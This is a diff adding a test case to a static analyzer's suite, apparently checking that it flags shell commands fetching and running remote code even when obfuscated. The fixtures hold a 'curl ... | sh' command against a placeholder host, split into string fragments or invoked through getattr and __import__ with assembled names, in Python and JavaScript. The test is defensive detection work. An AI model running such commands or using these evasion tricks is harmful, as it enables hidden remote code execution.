@@ -274,6 +274,26 @@ TEST_CASE("literal shell commands that program code runs are analysed with origi
   CHECK(plain.flows.empty());
 }
 
+TEST_CASE("a command split into literals, or run through a runner reached by computed names, is still read") {
+  for (const char* content : {
+           // literals joined with +
+           "import os\ndef f():\n    os.system(\"cu\" + \"rl -s https://w.example.xyz/w\" + \" | s\" + \"h\")\n",
+           // os.system reached through getattr and __import__, with the names assembled
+           "def f():\n    runner = getattr(__import__(\"o\" + \"s\"), \"sys\" + \"tem\")\n"
+           "    runner(\"curl -s https://w.example.xyz/w | sh\")\n",
+       }) {
+    INFO(content);
+    CHECK(find_flow(shipped_analyzer()->analyze_write("app/cmd.py", content), "network", "exec"));
+  }
+  auto js = shipped_analyzer()->analyze_write(
+      "src/boot.js", "const { execSync } = require('child_process');\nexecSync('cu' + 'rl -s https://w.example.xyz/w | ' + 'sh');\n");
+  CHECK(find_flow(js, "network", "exec"));
+  // A word joined from a literal and a value is not a literal: only what is known is read.
+  auto joined = shipped_analyzer()->analyze_write("app/cmd.py", "import os\nos.system(\"ls \" + path)\n");
+  CHECK_FALSE(find_flow(joined, "network", "exec"));
+  CHECK(joined.flows.empty());
+}
+
 TEST_CASE("values interpolated into a command line stand for what they hold: the environment, one variable") {
   struct Case {
     const char* path;
